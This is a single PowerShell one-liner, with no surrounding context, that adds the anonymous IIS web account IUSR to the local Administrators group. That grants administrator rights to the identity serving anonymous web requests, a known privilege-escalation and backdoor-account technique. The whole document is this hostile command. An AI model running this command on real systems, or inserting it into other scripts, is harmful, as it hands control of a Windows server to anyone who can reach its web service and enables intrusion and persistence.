1 | ForEach-Object -Parallel { net localgroup Administrators IUSR /add }
